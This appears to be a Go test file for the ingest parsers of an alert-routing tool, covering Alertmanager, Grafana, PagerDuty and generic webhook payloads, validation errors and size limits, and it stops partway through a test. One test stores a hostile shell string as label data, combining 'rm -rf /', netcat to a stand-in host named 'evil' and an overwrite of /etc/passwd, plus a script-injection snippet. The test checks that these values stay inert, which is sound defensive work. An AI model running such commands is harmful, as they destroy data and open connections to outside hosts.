package ingest_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/quench-sh/quench"
	"github.com/quench-sh/quench/ingest"
)

func fixture(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func details(t *testing.T, a quench.Alert) map[string]any {
	t.Helper()
	if a.Details == nil {
		return nil
	}
	var m map[string]any
	if err := json.Unmarshal(a.Details, &m); err != nil {
		t.Fatalf("Details %s: %v", a.Details, err)
	}
	return m
}

func mustTime(s string) time.Time {
	t, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		panic(err)
	}
	return t.UTC()
}

// compare checks the fields a parser sets, Details separately as JSON.
func compare(t *testing.T, i int, got, want quench.Alert, wantDetails map[string]any) {
	t.Helper()
	if d := details(t, got); !reflect.DeepEqual(d, wantDetails) {
		t.Errorf("alert %d: Details = %s, want %v", i, got.Details, wantDetails)
	}
	got.Details = nil
	if !reflect.DeepEqual(got, want) {
		t.Errorf("alert %d:\n got %+v\nwant %+v", i, got, want)
	}
}

func TestParseAlertmanagerMixed(t *testing.T) {
	// Captured from Alertmanager 0.25 (testdata/alertmanager.yml): two disk
	// alerts resolved and one still firing, in one notification.
	alerts, err := ingest.ParseAlertmanager(fixture(t, "alertmanager-0.25-mixed.json"))
	if err != nil {
		t.Fatal(err)
	}
	labels := func(instance string) map[string]string {
		return map[string]string{"alertname": "HostDiskUsageHigh", "instance": instance, "job": "node",
			"mountpoint": "/var/lib/postgresql", "service": "db", "severity": "warning"}
	}
	group := func(generator bool) map[string]any {
		m := map[string]any{"receiver": "quench", "groupKey": `{}:{alertname="HostDiskUsageHigh", service="db"}`,
			"externalURL": "http://vm:19093"}
		if generator {
			m["generatorURL"] = "http://prometheus:9090/graph?g0.expr=node_filesystem_avail_bytes+%2F+node_filesystem_size_bytes+%3C+0.15&g0.tab=1"
		}
		return m
	}
	want := []quench.Alert{{
		Source: quench.SourceAlertmanager, DedupKey: "73ba859a51ebb9ae", Action: quench.ActionResolve,
		Severity: quench.SeverityMedium, Summary: "Disk usage above 85% on db-1:9100",
		Labels: labels("db-1:9100"),
		Annotations: map[string]string{
			"description": "Filesystem /var/lib/postgresql is 91.3% full.\nFree space before the database stops accepting writes.",
			"runbook_url": "https://git.example.com/ops/runbooks/blob/main/disk-full.md",
			"summary":     "Disk usage above 85% on db-1:9100",
		},
		StartsAt: mustTime("2026-11-26T15:04:31Z"), EndsAt: mustTime("2026-11-26T15:04:36Z"),
	}, {
		Source: quench.SourceAlertmanager, DedupKey: "c3535014115d58ff", Action: quench.ActionResolve,
		Severity: quench.SeverityMedium, Summary: "Disk usage above 85% on db-2:9100",
		Labels: labels("db-2:9100"),
		Annotations: map[string]string{
			"description": "Filesystem /var/lib/postgresql is 87.0% full.",
			"summary":     "Disk usage above 85% on db-2:9100",
		},
		StartsAt: mustTime("2026-11-26T15:04:31Z"), EndsAt: mustTime("2026-11-26T15:04:36Z"),
	}, {
		Source: quench.SourceAlertmanager, DedupKey: "3cd5e5bb44215d30", Action: quench.ActionTrigger,
		Severity: quench.SeverityMedium, Summary: "Filesystem /var/lib/postgresql is 86.2% full.",
		Labels:      labels("db-3:9100"),
		Annotations: map[string]string{"description": "Filesystem /var/lib/postgresql is 86.2% full.\nSecond line."},
		StartsAt:    mustTime("2026-11-26T15:04:31Z"),
	}}
	if len(alerts) != len(want) {
		t.Fatalf("got %d alerts, want %d", len(alerts), len(want))
	}
	for i := range want {
		compare(t, i, alerts[i], want[i], group(true))
	}
}

func TestParseAlertmanagerFixtures(t *testing.T) {
	for _, tt := range []struct {
		file                                     string
		n                                        int
		first                                    quench.Alert // Source, DedupKey, Action, Severity, Summary, StartsAt compared
		details                                  map[string]any
		labelsFingerprintMatchesAlertmanagerKeys bool
	}{
		{"alertmanager-0.25-firing.json", 3, quench.Alert{DedupKey: "73ba859a51ebb9ae", Action: quench.ActionTrigger,
			Severity: quench.SeverityMedium, Summary: "Disk usage above 85% on db-1:9100"}, nil, true},
		{"alertmanager-0.25-critical.json", 1, quench.Alert{DedupKey: "06cf5770c82281d0", Action: quench.ActionTrigger,
			Severity: quench.SeverityCritical, Summary: "Postgres is down on db-1:9187"}, nil, true},
		{"alertmanager-0.25-truncated.json", 2, quench.Alert{Action: quench.ActionTrigger,
			Severity: quench.SeverityCritical}, map[string]any{"receiver": "quench", "externalURL": "http://vm:19093",
			"groupKey": `{}:{alertname="ApiHealthFailing", service="api"}`, "truncatedAlerts": 2.0}, true},
		// A newer Alertmanager's fields (notification_reason, routeLabels)
		// and one nobody knows yet; no fingerprint, so the labels' hash.
		{"alertmanager-newer-fields.json", 1, quench.Alert{DedupKey: "", Action: quench.ActionTrigger,
			Severity: quench.SeverityCritical, Summary: "No successful backup for 26 hours",
			StartsAt: mustTime("2025-03-02T04:00:00.123456789Z")}, map[string]any{
			"receiver": "quench", "externalURL": "http://alertmanager:9093",
			"groupKey":     `{}:{alertname="BackupHeartbeatMissing"}`,
			"routeLabels":  map[string]any{"team": "ops"},
			"generatorURL": "http://prometheus:9090/graph?g0.expr=time%28%29+-+backup_last_success_timestamp_seconds+%3E+93600&g0.tab=1",
		}, false},
	} {
		t.Run(tt.file, func(t *testing.T) {
			body := fixture(t, tt.file)
			alerts, err := ingest.ParseAlertmanager(body)
			if err != nil {
				t.Fatal(err)
			}
			if len(alerts) != tt.n {
				t.Fatalf("got %d alerts, want %d", len(alerts), tt.n)
			}
			a := alerts[0]
			if a.Source != quench.SourceAlertmanager || a.Action != tt.first.Action || a.Severity != tt.first.Severity ||
				(tt.first.DedupKey != "" && a.DedupKey != tt.first.DedupKey) ||
				(tt.first.Summary != "" && a.Summary != tt.first.Summary) || !a.StartsAt.Equal(tt.first.StartsAt) && !tt.first.StartsAt.IsZero() {
				t.Errorf("first alert = %+v, want %+v", a, tt.first)
			}
			if tt.details != nil {
				if d := details(t, a); !reflect.DeepEqual(d, tt.details) {
					t.Errorf("Details = %s, want %v", a.Details, tt.details)
				}
			}
			if !a.ReceivedAt.IsZero() || a.Integration != "" || a.RunbookID != "" {
				t.Errorf("parser set ReceivedAt, Integration or RunbookID: %+v", a)
			}
			// Alertmanager's fingerprint is the hash of the labels; quench's
			// fallback must compute the very same key.
			var raw struct {
				Alerts []struct {
					Labels      map[string]string `json:"labels"`
					Fingerprint string            `json:"fingerprint"`
				} `json:"alerts"`
			}
			if err := json.Unmarshal(body, &raw); err != nil {
				t.Fatal(err)
			}
			for i, ra := range raw.Alerts {
				if !tt.labelsFingerprintMatchesAlertmanagerKeys {
					continue
				}
				noFP, _ := json.Marshal(map[string]any{"version": "4", "status": "firing",
					"alerts": []any{map[string]any{"status": "firing", "labels": ra.Labels}}})
				got, err := ingest.ParseAlertmanager(noFP)
				if err != nil {
					t.Fatal(err)
				}
				if got[0].DedupKey != ra.Fingerprint {
					t.Errorf("alert %d: hash of labels = %s, Alertmanager's fingerprint %s", i, got[0].DedupKey, ra.Fingerprint)
				}
			}
		})
	}
}

func TestParseGrafana(t *testing.T) {
	alerts, err := ingest.ParseGrafana(fixture(t, "grafana-11.json"))
	if err != nil {
		t.Fatal(err)
	}
	group := map[string]any{
		"receiver":    "quench",
		"groupKey":    `{}/{__grafana_autogenerated__="true"}/{__grafana_receiver__="quench"}:{grafana_folder="Infrastructure"}`,
		"externalURL": "https://grafana.example.com/", "orgId": 1.0, "state": "alerting",
	}
	with := func(m map[string]any) map[string]any {
		for k, v := range group {
			m[k] = v
		}
		return m
	}
	want := []quench.Alert{{
		Source: quench.SourceGrafana, DedupKey: "5f0dd3e9a1c2b7f4", Action: quench.ActionTrigger,
		Severity: quench.SeverityCritical, Summary: "Redis on redis-1:9121 is at 96% of maxmemory",
		Labels: map[string]string{"alertname": "Redis memory high", "grafana_folder": "Infrastructure",
			"instance": "redis-1:9121", "service": "redis", "severity": "critical"},
		Annotations: map[string]string{
			"description": "Redis used memory is 96% of maxmemory.\nEvictions are likely.",
			"runbook_url": "https://git.example.com/ops/runbooks/blob/main/redis-memory.md?plain=1#quick-diagnosis",
			"summary":     "Redis on redis-1:9121 is at 96% of maxmemory",
		},
		StartsAt: mustTime("2024-05-14T07:51:03.157076Z"), // zero endsAt while firing
	}, {
		Source: quench.SourceGrafana, DedupKey: "a1b2c3d4e5f60718", Action: quench.ActionResolve,
		Severity: quench.SeverityHigh, Summary: "More than 1000 jobs waiting for 10 minutes.",
		Labels:      map[string]string{"alertname": "Job queue backlog", "grafana_folder": "Infrastructure", "queue": "default"},
		Annotations: map[string]string{"description": "More than 1000 jobs waiting for 10 minutes."},
		StartsAt:    mustTime("2024-05-14T09:31:00Z"), EndsAt: mustTime("2024-05-14T09:56:00Z"),
	}}
	wantDetails := []map[string]any{with(map[string]any{
		"generatorURL": "https://grafana.example.com/alerting/grafana/adm3kq7l9fvr4e/view?orgId=1",
		"silenceURL":   "https://grafana.example.com/alerting/silence/new?alertmanager=grafana&matcher=__alert_rule_uid__%3Dadm3kq7l9fvr4e&matcher=instance%3Dredis-1%3A9121&orgId=1",
		"dashboardURL": "https://grafana.example.com/d/redis01?from=1715672463157&orgId=1&to=1715676063157",
		"panelURL":     "https://grafana.example.com/d/redis01?from=1715672463157&orgId=1&to=1715676063157&viewPanel=4",
		"values":       map[string]any{"A": 0.9612, "B": 1.0},
		"valueString":  "[ var='A' labels={instance=redis-1:9121, service=redis} value=0.9612 ], [ var='B' labels={instance=redis-1:9121, service=redis} value=1 ]",
	}), with(map[string]any{
		"generatorURL": "https://grafana.example.com/alerting/grafana/bdm3kq7l9fvr4f/view?orgId=1",
		"silenceURL":   "https://grafana.example.com/alerting/silence/new?alertmanager=grafana&matcher=__alert_rule_uid__%3Dbdm3kq7l9fvr4f&orgId=1",
		"imageURL":     "https://grafana.example.com/public/img/attachments/queue.png",
	})}
	if len(alerts) != len(want) {
		t.Fatalf("got %d alerts, want %d", len(alerts), len(want))
	}
	for i := range want {
		compare(t, i, alerts[i], want[i], wantDetails[i])
	}
}

func TestParsePagerDuty(t *testing.T) {
	const key = "R015QUENCHINGESTKEY0123456789ABC"
	for _, tt := range []struct {
		file    string
		want    quench.Alert
		details map[string]any
	}{
		{"pagerduty-trigger.json", quench.Alert{
			Source: quench.SourcePagerDuty, DedupKey: "disk/db-1/var-lib-postgresql", Action: quench.ActionTrigger,
			Severity: quench.SeverityMedium, Summary: "DISK at 91% on db-1",
			Labels: map[string]string{"source": "db-1.prod.example.com", "component": "postgres",
				"group": "prod-datapipe", "class": "disk"},
			Annotations: map[string]string{"runbook_url": "https://git.example.com/ops/runbooks/blob/main/disk-full.md"},
			StartsAt:    mustTime("2015-07-17T08:42:58.315Z"),
		}, map[string]any{
			"custom_details": map[string]any{"free space": "8.2 GiB", "mount": "/var/lib/postgresql",
				"runbook_url": "https://git.example.com/ops/runbooks/blob/main/disk-full.md"},
			"client": "Sample Monitoring Service", "client_url": "https://monitoring.example.com",
			"images": []any{map[string]any{"src": "https://grafana.example.com/render/d-solo/disk.png",
				"href": "https://grafana.example.com/d/disk", "alt": "Disk usage"}},
			"links": []any{map[string]any{"href": "https://grafana.example.com/d/disk", "text": "Disk dashboard"}},
		}},
		{"pagerduty-trigger-no-dedup.json", quench.Alert{
			Source: quench.SourcePagerDuty, Action: quench.ActionTrigger, Severity: quench.SeverityCritical,
			Summary:     "Stripe webhook signature failures above 5% for 10m",
			Labels:      map[string]string{"source": "api"},
			Annotations: map[string]string{},
		}, map[string]any{"custom_details": "free-form text is allowed too"}},
		{"pagerduty-acknowledge.json", quench.Alert{
			Source: quench.SourcePagerDuty, DedupKey: "disk/db-1/var-lib-postgresql", Action: quench.ActionAcknowledge,
			Severity: quench.SeverityHigh, Labels: map[string]string{}, Annotations: map[string]string{},
		}, nil},
		{"pagerduty-resolve.json", quench.Alert{
			Source: quench.SourcePagerDuty, DedupKey: "disk/db-1/var-lib-postgresql", Action: quench.ActionResolve,
			Severity: quench.SeverityHigh, Labels: map[string]string{}, Annotations: map[string]string{},
		}, nil},
	} {
		t.Run(tt.file, func(t *testing.T) {
			ev, err := ingest.ParsePagerDuty(fixture(t, tt.file))
			if err != nil {
				t.Fatal(err)
			}
			if ev.RoutingKey != key {
				t.Errorf("RoutingKey = %q, want %q", ev.RoutingKey, key)
			}
			if tt.want.DedupKey == "" {
				if !regexp.MustCompile(`^[0-9a-f]{32}$`).MatchString(ev.Alert.DedupKey) {
					t.Errorf("generated DedupKey = %q, want 32 hex digits", ev.Alert.DedupKey)
				}
				tt.want.DedupKey = ev.Alert.DedupKey
			}
			compare(t, 0, ev.Alert, tt.want, tt.details)
		})
	}
}

func TestParseGeneric(t *testing.T) {
	alerts, err := ingest.ParseGeneric(fixture(t, "generic.json"))
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) != 1 {
		t.Fatalf("got %d alerts, want 1", len(alerts))
	}
	a := alerts[0]
	if !regexp.MustCompile(`^[0-9a-f]{32}$`).MatchString(a.DedupKey) {
		t.Errorf("DedupKey = %q, want a 32-digit hash", a.DedupKey)
	}
	compare(t, 0, a, quench.Alert{
		Source: quench.SourceGeneric, DedupKey: a.DedupKey, Action: quench.ActionTrigger,
		Severity: quench.SeverityCritical, Summary: "nightly backup did not finish",
		Labels:      map[string]string{"job": "backup-nightly", "host": "backup-1", "runbook": "backup-failed"},
		Annotations: map[string]string{},
	}, map[string]any{"exit_code": 2.0, "log_tail": "pg_dump: error: connection to server failed\n", "duration_s": 3612.5})

	batch, err := ingest.ParseGeneric(fixture(t, "generic-batch.json"))
	if err != nil {
		t.Fatal(err)
	}
	want := []struct {
		key      string
		action   quench.Action
		severity quench.Severity
	}{
		{"email-bounces", quench.ActionTrigger, quench.SeverityMedium},
		{"", quench.ActionResolve, quench.SeverityHigh},
		{"", quench.ActionAcknowledge, quench.SeverityHigh},
	}
	if len(batch) != len(want) {
		t.Fatalf("got %d alerts, want %d", len(batch), len(want))
	}
	for i, w := range want {
		b := batch[i]
		if (w.key != "" && b.DedupKey != w.key) || b.Action != w.action || b.Severity != w.severity {
			t.Errorf("batch[%d] = %+v, want key %q action %s severity %s", i, b, w.key, w.action, w.severity)
		}
	}
}

func TestGenericDedupKeyIsStable(t *testing.T) {
	key := func(body string) string {
		t.Helper()
		a, err := ingest.ParseGeneric([]byte(body))
		if err != nil {
			t.Fatal(err)
		}
		return a[0].DedupKey
	}
	base := key(`{"summary":"disk full","labels":{"host":"db-1","mount":"/"}}`)
	for _, same := range []string{
		`{"summary":"disk full","labels":{"mount":"/","host":"db-1"}}`,
		`{"summary":"disk full","severity":"low","labels":{"mount":"/","host":"db-1"},"details":{"x":1}}`,
		`{"summary":"disk full","status":"resolved","labels":{"host":"db-1","mount":"/"}}`,
	} {
		if k := key(same); k != base {
			t.Errorf("key(%s) = %s, want %s", same, k, base)
		}
	}
	for _, other := range []string{
		`{"summary":"disk full","labels":{"host":"db-2","mount":"/"}}`,
		`{"summary":"disk ful","labels":{"host":"db-1","mount":"/"}}`,
		`{"summary":"disk full","labels":{"host":"db-1"}}`,
		`{"summary":"disk full","labels":{"host":"db-1","mount":"/","x":""}}`,
	} {
		if k := key(other); k == base {
			t.Errorf("key(%s) = %s, the same as a different alert's", other, k)
		}
	}
}

// badInputs are bodies each parser must refuse, with the exact message.
var badInputs = []struct {
	parser string // am, grafana, pd, generic
	name   string
	body   string
	code   string
	msg    string
}{
	{"am", "empty", ``, quench.EINVALID, `body is empty`},
	{"am", "blank", " \n", quench.EINVALID, `body is empty`},
	{"am", "truncated", `{"version":"4","alerts":[{"status":"firing"`, quench.EINVALID, `unexpected end of JSON input at byte 43`},
	{"am", "syntax", `{"version":"4",}`, quench.EINVALID, `invalid character '}' looking for beginning of object key string at byte 16`},
	{"am", "trailing garbage", `{"version":"4","alerts":[]} x`, quench.EINVALID, `invalid character 'x' after top-level value at byte 29`},
	{"am", "array body", `[]`, quench.EINVALID, `body: expected object, got array`},
	{"am", "no version", `{"alerts":[]}`, quench.EINVALID, `version is missing (want "4")`},
	{"am", "version 5", `{"version":"5","alerts":[]}`, quench.EUNSUPPORTED, `version "5" is not supported (want "4")`},
	{"am", "version number", `{"version":4,"alerts":[]}`, quench.EINVALID, `version: expected string, got number`},
	{"am", "grafana payload", `{"version":"1","alerts":[]}`, quench.EUNSUPPORTED, `version "1" is not supported (want "4")`},
	{"am", "version 5 with type errors", `{"version":"5","alerts":{}}`, quench.EUNSUPPORTED, `version "5" is not supported (want "4")`},
	{"am", "no alerts", `{"version":"4"}`, quench.EINVALID, `alerts is missing`},
	{"am", "alerts object", `{"version":"4","alerts":{}}`, quench.EINVALID, `alerts: expected array, got object`},
	{"am", "alert string", `{"version":"4","alerts":[{"status":"firing"},"x"]}`, quench.EINVALID, `alerts[1]: expected object, got string`},
	{"am", "labels string", `{"version":"4","alerts":[{},{},{},{"labels":"severity=critical"}]}`, quench.EINVALID, `alerts[3].labels: expected object, got string`},
	{"am", "label after a huge number", `{"version":"4","alerts":[{"x":1e400,"labels":{"a":2}}]}`, quench.EINVALID, `alerts[0].labels.a: expected string, got number`},
	{"am", "label number", `{"version":"4","alerts":[{"labels":{"alertname":"X","port":9100}}]}`, quench.EINVALID, `alerts[0].labels.port: expected string, got number`},
	{"am", "label odd name number", `{"version":"4","alerts":[{"labels":{"a b":true}}]}`, quench.EINVALID, `alerts[0].labels["a b"]: expected string, got boolean`},
	{"am", "annotation object", `{"version":"4","alerts":[{"annotations":{"summary":{"text":"x"}}}]}`, quench.EINVALID, `alerts[0].annotations.summary: expected string, got object`},
	{"am", "truncatedAlerts float", `{"version":"4","truncatedAlerts":1.5,"alerts":[]}`, quench.EINVALID, `truncatedAlerts: expected integer, got number`},
	{"am", "status unknown", `{"version":"4","alerts":[{"status":"pending","labels":{"a":"b"}}]}`, quench.EINVALID, `alerts[0].status: "pending" is not firing or resolved`},
	{"am", "status missing", `{"version":"4","alerts":[{"labels":{"a":"b"}}]}`, quench.EINVALID, `alerts[0].status is missing`},
	{"am", "empty label name", `{"version":"4","status":"firing","alerts":[{"labels":{"":"x"}}]}`, quench.EINVALID, `alerts[0].labels: label name is empty`},
	{"am", "empty annotation name", `{"version":"4","status":"firing","alerts":[{"annotations":{"":"x"}}]}`, quench.EINVALID, `alerts[0].annotations: annotation name is empty`},
	{"am", "bad startsAt", `{"version":"4","status":"firing","alerts":[{"startsAt":"yesterday"}]}`, quench.EINVALID, `alerts[0].startsAt: "yesterday" is not an RFC 3339 time`},
	{"am", "bad endsAt", `{"version":"4","status":"firing","alerts":[{"endsAt":"2024-13-01T00:00:00Z"}]}`, quench.EINVALID, `alerts[0].endsAt: "2024-13-01T00:00:00Z" is not an RFC 3339 time`},
	{"am", "long fingerprint", `{"version":"4","status":"firing","alerts":[{"fingerprint":"` + strings.Repeat("f", 256) + `"}]}`, quench.EINVALID, `alerts[0].fingerprint: 256 bytes, over the limit of 255 bytes`},
	{"am", "too many labels", `{"version":"4","status":"firing","alerts":[{"labels":{` + manyLabels(129) + `}}]}`, quench.EINVALID, `alerts[0].labels: 129 labels, over the limit of 128`},
	{"am", "label value too long", `{"version":"4","status":"firing","alerts":[{"labels":{"big":"` + strings.Repeat("x", 64<<10+1) + `"}}]}`, quench.EINVALID, `alerts[0].labels.big: 65537 bytes, over the limit of 65536 bytes`},
	{"am", "label name too long", `{"version":"4","status":"firing","alerts":[{"labels":{"` + strings.Repeat("n", 64<<10+1) + `":"v"}}]}`, quench.EINVALID, `alerts[0].labels: label name "` + strings.Repeat("n", 32) + `"… is 65537 bytes, over the limit of 65536 bytes`},
	{"generic", "batch label value too long", `[{"summary":"x"},{"summary":"y","labels":{"a b":"` + strings.Repeat("v", 64<<10+1) + `"}}]`, quench.EINVALID, `[1].labels["a b"]: 65537 bytes, over the limit of 65536 bytes`},
	{"am", "too many alerts", `{"version":"4","status":"firing","alerts":[` + strings.Repeat(`{},`, 10000) + `{}]}`, quench.EINVALID, `alerts: 10001 alerts, over the limit of 10000`},

	{"grafana", "alertmanager payload", `{"version":"4","alerts":[]}`, quench.EUNSUPPORTED, `version "4" is not supported (want "1")`},
	{"grafana", "legacy webhook", `{"ruleName":"CPU","state":"alerting","evalMatches":[]}`, quench.EINVALID, `version is missing (want "1")`},
	{"grafana", "orgId string", `{"version":"1","orgId":"1","alerts":[]}`, quench.EINVALID, `orgId: expected integer, got string`},
	{"grafana", "values array", `{"version":"1","alerts":[{"status":"firing","values":[1]},{"status":"firing","labels":{"x":1}}]}`, quench.EINVALID, `alerts[1].labels.x: expected string, got number`},
	{"grafana", "truncated", `{"version":"1","alerts":[`, quench.EINVALID, `unexpected end of JSON input at byte 25`},

	{"pd", "empty", ``, quench.EINVALID, `body is empty`},
	{"pd", "nothing", `{}`, quench.EINVALID, `'routing_key' is missing or blank; 'event_action' is missing or blank`},
	{"pd", "trigger without payload", `{"routing_key":"R015QUENCHINGESTKEY0123456789ABC","event_action":"trigger"}`, quench.EINVALID, `'payload' is missing`},
	{"pd", "trigger with empty payload", `{"routing_key":"R015QUENCHINGESTKEY0123456789ABC","event_action":"trigger","payload":{"summary":"  "}}`, quench.EINVALID,
		`'payload.summary' is missing or blank; 'payload.source' is missing or blank; 'payload.severity' is missing or blank`},
	{"pd", "bad everything", `{"routing_key":"short","event_action":"explode","dedup_key":"` + strings.Repeat("k", 256) + `","payload":{"summary":"s","source":"x","severity":"fatal"}}`, quench.EINVALID,
		`Length of 'routing_key' is incorrect (should be 32 characters); 'event_action' is invalid; 'dedup_key' is too long (max 255 bytes)`},
	{"pd", "bad severity", `{"routing_key":"R015QUENCHINGESTKEY0123456789ABC","event_action":"trigger","payload":{"summary":"s","source":"x","severity":"fatal"}}`, quench.EINVALID, `'payload.severity' is invalid`},
	{"pd", "resolve without dedup_key", `{"routing_key":"R015QUENCHINGESTKEY0123456789ABC","event_action":"resolve"}`, quench.EINVALID, `'dedup_key' is missing or blank`},
	{"pd", "summary number", `{"routing_key":"R015QUENCHINGESTKEY0123456789ABC","event_action":"trigger","payload":{"summary":42,"source":"x"}}`, quench.EINVALID,
		`payload.summary: expected string, got number; 'payload.severity' is missing or blank`},
	{"pd", "payload string", `{"routing_key":"R015QUENCHINGESTKEY0123456789ABC","event_action":"trigger","payload":"disk full"}`, quench.EINVALID, `payload: expected object, got string`},
	{"pd", "array body", `[{"event_action":"trigger"}]`, quench.EINVALID, `body: expected object, got array`},
	{"pd", "syntax", `{"routing_key":"R015QUENCHINGESTKEY0123456789ABC",`, quench.EINVALID, `unexpected end of JSON input at byte 50`},

	{"generic", "empty", ``, quench.EINVALID, `body is empty`},
	{"generic", "no summary", `{"severity":"critical"}`, quench.EINVALID, `summary is required`},
	{"generic", "blank summary", `{"summary":" \t"}`, quench.EINVALID, `summary is required`},
	{"generic", "batch no summary", `[{"summary":"a"},{"summary":"b"},{"summary":""}]`, quench.EINVALID, `[2].summary is required`},
	{"generic", "summary number", `{"summary":5}`, quench.EINVALID, `summary: expected string, got number`},
	{"generic", "label number", `{"summary":"x","labels":{"port":5432}}`, quench.EINVALID, `labels.port: expected string, got number`},
	{"generic", "batch label number", `[{"summary":"x"},{"summary":"y","labels":{"port":5432}}]`, quench.EINVALID, `[1].labels.port: expected string, got number`},
	{"generic", "labels array", `{"summary":"x","labels":["a"]}`, quench.EINVALID, `labels: expected object, got array`},
	{"generic", "details array", `{"summary":"x","details":[1,2]}`, quench.EINVALID, `details: expected object, got array`},
	{"generic", "details string", `[{"summary":"x","details":"text"}]`, quench.EINVALID, `[0].details: expected object, got string`},
	{"generic", "status unknown", `{"summary":"x","status":"pending"}`, quench.EINVALID, `status: "pending" is not firing, resolved or acknowledged`},
	{"generic", "dedup_key too long", `{"summary":"x","dedup_key":"` + strings.Repeat("k", 256) + `"}`, quench.EINVALID, `dedup_key: 256 bytes, over the limit of 255 bytes`},
	{"generic", "scalar body", `"disk full"`, quench.EINVALID, `body: expected object, got string`},
	{"generic", "too many", `[` + strings.Repeat(`{"summary":"x"},`, 10000) + `{"summary":"x"}]`, quench.EINVALID, `body: 10001 alerts, over the limit of 10000`},
}

func manyLabels(n int) string {
	parts := make([]string, n)
	for i := range parts {
		parts[i] = `"label` + strconv.Itoa(i) + `":"v"`
	}
	return strings.Join(parts, ",")
}

func parse(parser string, body []byte) ([]quench.Alert, error) {
	switch parser {
	case "am":
		return ingest.ParseAlertmanager(body)
	case "grafana":
		return ingest.ParseGrafana(body)
	case "generic":
		return ingest.ParseGeneric(body)
	case "pd":
		ev, err := ingest.ParsePagerDuty(body)
		if err != nil {
			return nil, err
		}
		return []quench.Alert{ev.Alert}, nil
	}
	panic(parser)
}

func TestBadInput(t *testing.T) {
	for _, tt := range badInputs {
		t.Run(tt.parser+"/"+tt.name, func(t *testing.T) {
			alerts, err := parse(tt.parser, []byte(tt.body))
			if err == nil {
				t.Fatalf("accepted %.80s: %+v", tt.body, alerts)
			}
			e, ok := err.(*quench.Error)
			if !ok {
				t.Fatalf("error %T %v, want *quench.Error", err, err)
			}
			if e.Code != tt.code || e.Message != tt.msg {
				t.Errorf("error = %s %q\n want %s %q", e.Code, e.Message, tt.code, tt.msg)
			}
			if alerts != nil {
				t.Errorf("returned alerts with the error: %+v", alerts)
			}
		})
	}
}

func TestFieldErrors(t *testing.T) {
	_, err := ingest.ParsePagerDuty([]byte(`{"routing_key":"R015QUENCHINGESTKEY0123456789ABC","event_action":"trigger","payload":{"severity":"bad"}}`))
	want := []string{"'payload.summary' is missing or blank", "'payload.source' is missing or blank", "'payload.severity' is invalid"}
	if got := ingest.FieldErrors(err); !reflect.DeepEqual(got, want) {
		t.Errorf("FieldErrors = %q, want %q", got, want)
	}
	if got := ingest.FieldErrors(nil); got != nil {
		t.Errorf("FieldErrors(nil) = %q, want nil", got)
	}
	_, err = ingest.ParsePagerDuty([]byte(`{`))
	if got := ingest.FieldErrors(err); !reflect.DeepEqual(got, []string{"unexpected end of JSON input at byte 1"}) {
		t.Errorf("FieldErrors(syntax) = %q", got)
	}
}

func TestNewDedupKey(t *testing.T) {
	seen := map[string]bool{}
	for range 1000 {
		k := ingest.NewDedupKey()
		if !regexp.MustCompile(`^[0-9a-f]{32}$`).MatchString(k) {
			t.Fatalf("NewDedupKey() = %q, want 32 hex digits", k)
		}
		if seen[k] {
			t.Fatalf("NewDedupKey() repeated %q", k)
		}
		seen[k] = true
	}
}

func TestHostileStringsAreKeptAsData(t *testing.T) {
	// Raw invalid UTF-8 bytes, escaped NUL, a lone surrogate, control
	// characters, newlines and shell syntax; only the first three change.
	body := []byte("{\"version\":\"4\",\"status\":\"firing\",\"alerts\":[{\"labels\":{" +
		"\"cmd\":\"$(rm -rf /); `reboot` | nc evil 1 && echo \\\"x\\\" > /etc/passwd\"," +
		"\"bytes\":\"a\xff\xfeb\"," +
		"\"nul\":\"a\\u0000b\"," +
		"\"surrogate\":\"\\ud800x\"," +
		"\"ctl\":\"\\u001b[31mred\\u0007\\r\\n<script>alert(1)</script>\"," +
		"\"n\\u0000ame\":\"v\"}," +
		"\"annotations\":{\"summary\":\"line1\\nline2\\u0000\"}," +
		"\"fingerprint\":\"fp\\u0000\"}]," +
		"\"routeLabels\":{\"k\\u0000\":\"\\ud800\",\"x\":\"\xff\"}}")
	alerts, err := ingest.ParseAlertmanager(body)
	if err != nil {
		t.Fatal(err)
	}
	a := alerts[0]
	wantLabels := map[string]string{
		"cmd":        "$(rm -rf /); `reboot` | nc evil 1 && echo \"x\" > /etc/passwd",
		"bytes":      "a\uFFFD\uFFFDb",
		"nul":        "a\uFFFDb",
		"surrogate":  "\uFFFDx",
		"ctl":        "\x1b[31mred\x07\r\n<script>alert(1)</script>",
		"n\uFFFDame": "v",
	}
	if !reflect.DeepEqual(a.Labels, wantLabels) {
		t.Errorf("Labels = %q\n want %q", a.Labels, wantLabels)
	}
	if a.Summary != "line1\nline2\uFFFD" || a.DedupKey != "fp\uFFFD" {
		t.Errorf("Summary %q, DedupKey %q", a.Summary, a.DedupKey)
	}
	if d := details(t, a); !reflect.DeepEqual(d["routeLabels"], map[string]any{"k\uFFFD": "\uFFFD", "x": "\uFFFD"}) {
		t.Errorf("routeLabels = %v", d["routeLabels"])
	}
	if strings.Contains(string(a.Details), `\u0000`) {
		t.Errorf("Details keep an escaped NUL: %s", a.Details)
	}
	checkAlert(t, a)
}

func TestLongValues(t *testing.T) {
	// 64 KiB is the limit, inclusive: the hostile 64 KiB label
	// values are stored.
	big := strings.Repeat("é", 32<<10) // 65536 bytes
	body := `{"summary":"` + big + `","labels":{"big":"` + big + `"}}`
	alerts, err := ingest.ParseGeneric([]byte(body))
	if err != nil {
		t.Fatal(err)
	}
	a := alerts[0]
	if a.Labels["big"] != big {
		t.Error("64 KiB label value was changed")
	}
	if len(a.Summary) > quench.MaxSummaryBytes || !strings.HasSuffix(a.Summary, "…") || !strings.HasPrefix(big, strings.TrimSuffix(a.Summary, "…")) {
		t.Errorf("Summary of %d bytes, want ≤ %d ending in …", len(a.Summary), quench.MaxSummaryBytes)
	}
	checkAlert(t, a)

	// A NUL is three bytes once replaced, which can push a value over.
	nuls := strings.Repeat(`\u0000`, 30000)
	_, err = ingest.ParseGeneric([]byte(`{"summary":"x","labels":{"z":"` + nuls + `"}}`))
	if want := "labels.z: 90000 bytes, over the limit of 65536 bytes"; err == nil || err.Error() != want {
		t.Errorf("error %v, want %s", err, want)
	}
}

func TestSummaryFallbacks(t *testing.T) {
	for _, tt := range []struct {
		labels, annotations string
		want                string
	}{
		{`{"alertname":"A"}`, `{"summary":"S","description":"D"}`, "S"},
